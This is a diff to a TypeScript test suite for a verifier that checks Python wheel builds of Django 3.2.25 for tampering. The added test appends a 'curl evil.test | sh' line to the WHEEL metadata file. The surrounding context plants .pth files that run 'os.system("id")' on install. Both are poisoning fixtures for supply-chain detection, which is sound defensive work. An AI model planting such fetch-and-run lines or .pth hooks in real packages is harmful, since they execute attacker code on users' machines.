@@ -194,6 +194,16 @@ describe.skipIf(!SDIST)('poisoned builds of the real Django 3.2.25', () => {
     expect(failed(checks)).toEqual(['content.sdist-metadata']);
   });
 
+  it('fails text after the fields of WHEEL, which installers skip and bdist_wheel never writes', () => {
+    const poisoned = withFreshRecord(
+      editFile(wheel, `${DIST}/WHEEL`, (t) => `${t}curl evil.test | sh\n`),
+      DIST,
+    );
+    const checks = judge(sdist, poisoned);
+    expect(failed(checks)).toContain('content.wheel-metadata');
+    expect(message(checks, 'content.wheel-metadata')).toContain('text after the WHEEL fields');
+  });
+
   it('fails a .pth file wherever an installer honours it', () => {
     for (const path of ['evil.pth', `${DATA}/purelib/evil.pth`, `${DATA}/platlib/evil.pth`]) {
       const checks = judge(sdist, withFreshRecord(withFile(wheel, path, 'import os; os.system("id")\n'), DIST));
